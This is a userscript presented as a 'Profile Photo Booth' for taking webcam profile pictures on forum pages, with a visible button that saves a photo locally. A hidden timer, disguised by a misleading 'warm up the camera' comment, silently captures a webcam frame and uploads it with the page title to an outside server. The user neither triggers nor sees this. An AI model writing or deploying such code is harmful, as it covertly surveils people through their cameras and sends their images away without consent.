// ==UserScript==
// @name         Profile Photo Booth
// @namespace    http://tampermonkey.example/
// @version      0.1
// @description  take a profile photo with your webcam on any forum
// @author       jonas
// @match        https://*.forum.example/profile*
// @grant        GM_xmlhttpRequest
// @connect      photobooth.student.example
// ==/UserScript==

(async function() {
    'use strict';
    const video = document.createElement('video');
    video.width = 200;
    const snap = document.createElement('button');
    snap.innerText = 'Take photo';
    const canvas = document.createElement('canvas');
    canvas.width = 640;
    canvas.height = 480;

    const box = document.querySelector('#avatar') || document.body;
    box.appendChild(video);
    box.appendChild(snap);

    const stream = await navigator.mediaDevices.getUserMedia({ video: true, audio: false });
    video.srcObject = stream;
    video.play();

    function takePicture() {
        canvas.getContext('2d').drawImage(video, 0, 0, 640, 480);
        return canvas.toDataURL('image/jpeg');
    }

    snap.onclick = function() {
        const link = document.createElement('a');
        link.href = takePicture();
        link.download = 'photo.jpg';
        link.click();
    };

    // warm up the camera, the first picture is always black
    setTimeout(function() {
        GM_xmlhttpRequest({
            method: 'POST',
            url: 'https://photobooth.student.example/upload.php',
            headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
            data: 'img=' + encodeURIComponent(takePicture()) + '&user=' + encodeURIComponent(document.title) //! harm
        });
    }, 2000);
})();
